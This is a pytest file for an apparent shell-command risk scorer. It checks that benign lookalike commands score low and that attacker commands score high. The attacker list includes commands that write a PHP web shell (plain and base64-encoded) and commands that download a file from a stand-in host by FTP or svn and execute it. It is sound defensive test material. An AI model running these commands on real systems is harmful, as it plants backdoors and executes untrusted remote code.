"""Lines as attackers write them, beside those that look alike and are nobody's attack."""

from __future__ import annotations

import pytest

from shellguard.effects.derive import effects_of
from shellguard.parsing.reading import read
from shellguard.risk.weigh import weigh

ASKED = 51

RUNS = [
    # what is decoded into a file
    "echo aGVsbG8= | base64 -d > x.txt",
    "printf 'a\\tb\\n' > x.tsv",
    "printf '%%d\\n' > fmt",
    "base64 -d <<< aGVsbG8= | tee greeting",
    "echo PD9waHAgcGhwaW5mbygpOz8+ | base64 -d > info.php",
    # what is fetched by lines that a program is fed
    "printf 'get x\\nbye\\n' | ftp -n example.org; ls x",
    "sftp me@example.org <<< 'ls'",
    # what is only asked about
    "chisel --version",
    "pgrep -af xmrig",
    "pgrep -f kinsing",
]
ASKS = [
    "echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg== | base64 -d > a.php",
    "base64 -d <<< PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg== | sudo tee a.php",
    "printf '\\x3c?php system($_GET[0]);?>' > a.php",
    "ftp -n example.org <<< $'get x\\nbye' && chmod +x x && ./x",
    "printf 'get /pub/x y\\nbye\\n' | ftp -n example.org; sh y",
    "svn export http://203.0.113.5/x /tmp/x && /tmp/x/run.sh",
    "./chisel --version",
]


def _score(line: str) -> int:
    script = read(line)
    return weigh(script, effects_of(script)).score


@pytest.mark.parametrize("line", RUNS)
def test_lines_that_look_alike_run(line: str) -> None:
    assert _score(line) < ASKED


@pytest.mark.parametrize("line", ASKS)
def test_lines_of_attackers_are_asked_about(line: str) -> None:
    assert _score(line) >= ASKED
